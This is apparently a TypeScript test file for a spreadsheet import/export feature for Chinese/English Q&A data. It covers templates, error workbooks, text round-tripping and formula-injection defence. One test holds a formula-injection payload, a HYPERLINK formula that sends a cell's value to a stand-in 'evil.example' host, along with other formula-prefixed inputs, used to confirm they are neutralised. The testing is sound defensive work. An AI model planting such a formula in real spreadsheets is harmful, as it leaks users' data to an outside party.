import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import * as fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { columnTitles, templateColumnNames, workbookColumns } from '../../server/workbook/columns.ts';
import type { ErrorRow } from '../../server/workbook/error-sheet.ts';
import { restoreText, safeText } from '../../server/workbook/formula-safe.ts';
import { rowReasons } from '../../server/workbook/parsed-row.ts';
import { reasonText } from '../../server/workbook/reason-texts.ts';
import { workbookTemplate, writeErrorWorkbook } from '../../server/workbook/write-workbook.ts';
import { languages } from '../../src/machines/rules/limits.ts';
import { readAll, WorkbookFolder } from '../support/workbook-files.ts';

const folder = new WorkbookFolder();
afterAll(() => folder.remove());

async function open(file: string): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  return workbook;
}

function errorRow(rowNumber: number, change: Partial<ErrorRow['content']> = {}): ErrorRow {
  return {
    rowNumber,
    reason: 'duplicateInFile',
    column: 'standardQuestion',
    duplicateOfRow: 3,
    content: {
      category: '售后',
      subcategory: '退款',
      standardQuestion: `问题 ${rowNumber}`,
      similarQuestions: ['甲', '乙'],
      answer: '第一行\n第二行',
      statusText: '停用',
      qaId: '',
      extra: [],
      ...change,
    },
  };
}

const optionsIn = (language: 'zh' | 'en', extraColumns: string[] = []) => ({
  kind: 'qas' as const,
  language,
  columns: null,
  extraColumns,
  answerMaxCharacters: 3210,
});

describe.each(languages)('the template in %s', (language) => {
  it('says everything that a person needs, and its examples are never imported', async () => {
    const file = folder.path(`template-${language}.xlsx`);
    writeFileSync(file, await workbookTemplate({ kind: 'qas', language, answerMaxCharacters: 3210 }));
    const [entry, instructions] = (await open(file)).worksheets;
    expect(entry?.getRow(1).values).toEqual([
      undefined,
      ...templateColumnNames.map((column) => columnTitles[language][column]),
    ]);
    expect(entry?.views).toMatchObject([{ state: 'frozen', ySplit: 1 }]);
    expect(entry?.getCell('F4').dataValidation).toMatchObject({ type: 'list' });
    const told = JSON.stringify(instructions?.getSheetValues());
    for (const column of workbookColumns) expect(told).toContain(columnTitles[language][column]);
    for (const fact of ['200', '20', '3210', '5 MB', '.xlsx']) expect(told).toContain(fact);

    const { rows, summary } = await readAll(file);
    expect(summary).toMatchObject({ total: 2, accepted: 0, rejected: 2, extraColumns: [] });
    expect(rows.map(({ reason }) => reason)).toEqual(['exampleRow', 'exampleRow']);
    expect(rows.map(({ status }) => status)).toEqual(['activated', 'deactivated']);
    for (const { content } of rows)
      expect(content.standardQuestion).toMatch(/示例，请删除|Example, please delete/);
  });
});

describe('the error workbook', () => {
  it.each(languages)('has the row, the reason and the cells in %s', async (language) => {
    const file = folder.path(`errors-${language}.xlsx`);
    const rows = [[errorRow(7)], [errorRow(12, { extra: ['备注'] })]];
    expect(await writeErrorWorkbook(file, rows, optionsIn(language, ['内部编号']))).toBe(2);
    const sheet = (await open(file)).worksheets[0];
    const reason = reasonText(optionsIn(language), { reason: 'duplicateInFile', duplicateOfRow: 3 });
    expect(reason).toContain('3');
    expect(sheet?.getRow(2).values).toEqual([
      undefined,
      7,
      reason,
      '售后',
      '退款',
      '问题 7',
      '甲\n乙',
      '第一行\n第二行',
      '停用',
    ]);
    expect(sheet?.getCell('I1').value).toBe('内部编号');
    expect(sheet?.getCell('I3').value).toBe('备注');
  });

  it('can be corrected and imported again without loss', async () => {
    const nasty = [
      '=1+1',
      "'=1+1",
      '+86 10',
      '-5',
      '@all',
      '＝1',
      '_x0041_',
      '_x000D_',
      'a\n=b',
      '<&>"',
      '👍',
      "it's",
      "'",
    ];
    const file = folder.path('again.xlsx');
    const rows = nasty.map((answer, index) =>
      errorRow(index + 2, {
        answer,
        similarQuestions: [`似${answer.replace('\n', ' ')}`, '-乙'],
        extra: [answer],
      }),
    );
    await writeErrorWorkbook(file, [rows], optionsIn('zh', ['=附注']));
    const again = await readAll(file);
    expect(again.rows.map(({ content }) => content)).toEqual(rows.map(({ content }) => content));
    expect(again.summary).toMatchObject({ accepted: nasty.length, extraColumns: ["'=附注"] });
  });

  it('S25 neutralises whatever begins like a formula', async () => {
    const file = folder.path('formulas.xlsx');
    const attack = '=HYPERLINK("https://evil.example?"&A1,"click")';
    const texts = [attack, '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '＠a'];
    await writeErrorWorkbook(
      file,
      [texts.map((text, index) => errorRow(index + 2, { answer: text, category: text }))],
      optionsIn('en', [attack]),
    );
    const sheet = (await open(file)).worksheets[0];
    sheet?.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula).toBeUndefined();
        expect(cell.text).not.toMatch(/^[=+\-@\t\r＝＋－＠]/u);
        if (typeof cell.value === 'string') expect(cell.numFmt).toBe('@');
      }),
    );
    expect(sheet?.getCell('G2').value).toBe(`'${attack}`);
  });

  it('appears only when it is complete', async () => {
    const file = folder.path('never.xlsx');
    const broken = (function* () {
      yield [errorRow(2)];
      throw new Error('the store is gone');
    })();
    await expect(writeErrorWorkbook(file, broken, optionsIn('zh'))).rejects.toThrow('the store is gone');
    expect(readdirSync(folder.path('.')).filter((name) => name.startsWith('never'))).toEqual([]);
    await expect(
      writeErrorWorkbook(folder.path('no/such/folder.xlsx'), [[errorRow(2)]], optionsIn('zh')),
    ).rejects.toThrow('ENOENT');
  });

  it('is a workbook even without rows, and stops on request', async () => {
    const file = folder.path('none.xlsx');
    expect(await writeErrorWorkbook(file, [], optionsIn('en'))).toBe(0);
    expect(readFileSync(file).subarray(0, 2).toString()).toBe('PK');
    const stop = new AbortController();
    stop.abort(new Error('enough'));
    const writing = writeErrorWorkbook(file, [[errorRow(2)]], { ...optionsIn('en'), signal: stop.signal });
    await expect(writing).rejects.toThrow('enough');
  });

  it('has a text for every reason in both languages', () => {
    const texts = languages.flatMap((language) =>
      rowReasons.map((reason) => reasonText(optionsIn(language), { reason, duplicateOfRow: null })),
    );
    expect(new Set(texts).size).toBe(languages.length * rowReasons.length);
    expect(texts.filter((text) => text.includes('3210'))).toHaveLength(languages.length);
    for (const text of texts) expect(text).not.toMatch(/null|undefined/);
  });

  it('safeText and restoreText undo each other', () => {
    const texts = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', 'a') }),
    );
    fc.assert(
      fc.property(
        texts,
        (text) => restoreText(safeText(text)) === text && !/^[=+\-@\t\r]/.test(safeText(text)),
      ),
    );
  });
});
